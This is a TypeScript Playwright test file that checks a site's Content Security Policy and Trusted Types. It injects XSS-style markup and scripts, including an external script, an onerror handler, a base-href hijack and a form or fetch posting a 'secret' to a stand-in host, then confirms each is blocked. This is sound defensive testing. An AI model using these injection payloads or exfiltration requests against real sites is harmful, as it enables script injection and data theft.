import type { Page } from 'playwright';
import { expect, test } from 'vitest';
import { problemsOf, rewriting, usePages } from './pages.ts';

// What an attacker might try through a vulnerability in the site. None of it may work.
const FOREIGN = 'https://elsewhere.example';
const pages = usePages('fixture');

const INJECTED = [
  '<script>window.injected = true</script>',
  `<script src="${FOREIGN}/evil.js"></script>`,
  '<img src="/no-such-picture.png" alt="" onerror="window.injected = true">',
  '<p id="styled" style="color: rgb(1, 2, 3)">A paragraph</p>',
  '<style>#styled { background: rgb(1, 2, 3) }</style>',
  `<base href="${FOREIGN}/">`,
  `<iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>`,
  `<img src="${FOREIGN}/picture.png" alt="">`,
  `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
].join('');

/** Opens a page with markup injected. Reports the directives it violated, and the requests that left the site. */
async function open(path: string, markup = '') {
  const sent: string[] = [];
  const prepare = async (opened: Page) => {
    await rewriting((html) => html.replace('<main', () => `${markup}<main`))(opened);
    // Requests that the policy blocks don't get this far.
    await opened.route(`${FOREIGN}/**`, (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
  };
  const page = await pages.open(path, { prepare });
  const reports = async () => {
    const violated = (await problemsOf(page)).flatMap((problem) => /policy violated: (\S+)/.exec(problem)?.[1] ?? []);
    return { violated, sent };
  };
  return { page, reports };
}

test('injected markup runs, styles, loads, redirects, and sends nothing', async () => {
  const { page, reports } = await open('/contact/', INJECTED);
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  const style = await page.locator('#styled').evaluate((element) => {
    const { color, backgroundColor } = getComputedStyle(element);
    return color + backgroundColor;
  });
  expect(style).not.toContain('rgb(1, 2, 3)');
  expect(await page.evaluate(() => document.baseURI)).toBe(pages.addressOf('/contact/'));
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
  const inMarkup = ['base-uri', 'frame-src', 'img-src', 'object-src', 'form-action'];
  const inCode = ['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
  const violated = expect.arrayContaining([...inMarkup, ...inCode]);
  await expect.poll(reports).toEqual({ violated, sent: [] });
  expect(page.url()).toBe(pages.addressOf('/contact/'));
});

test('an injected script can run no strings, write no markup, and reach nobody', async () => {
  const { page, reports } = await open('/');
  for (const attempt of [
    () => (document.body.innerHTML = '<img src=x>'),
    () => (document.createElement('script').text = 'window.injected = true'),
    () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
  ]) {
    await expect(page.evaluate(attempt as () => void)).rejects.toThrow(/TrustedHTML|TrustedScript|Policy/);
  }
  // What Playwright evaluates itself is exempt. What runs later is not.
  const error = await page.evaluate(
    () =>
      new Promise((resolve) => {
        addEventListener('error', ({ message }) => resolve(message));
        setTimeout(() => new Function('window.injected = true')());
      }),
  );
  expect(error).toContain('EvalError');
  // It may not even send a request to the site itself.
  for (const address of [`${FOREIGN}/collect`, '/']) {
    const response = page.evaluate((to) => fetch(to, { method: 'POST' }).then(String), address);
    await expect(response).rejects.toThrow('Failed to fetch');
  }
  await page.evaluate((host) => {
    new Image().src = `${host}/pixel.gif`;
    document.fonts.add(new FontFace('Foreign', `url(${host}/font.woff2)`));
    void document.fonts.load('16px Foreign').catch(() => {});
  }, FOREIGN);
  const violated = expect.arrayContaining(['connect-src', 'font-src', 'img-src']);
  await expect.poll(reports).toEqual({ violated, sent: [] });
});
